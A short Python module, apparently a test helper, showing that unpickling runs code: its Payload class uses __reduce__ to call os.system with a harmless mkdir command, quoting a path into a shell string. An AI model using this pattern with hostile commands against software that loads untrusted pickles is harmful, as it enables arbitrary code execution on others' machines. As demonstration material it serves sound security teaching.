"""What a pickle can do to whoever reads it."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any


class Payload:
    """Makes a folder when it is unpickled, by which one sees that it was."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> Any:
        return os.system, (f"mkdir '{self.target}'",)
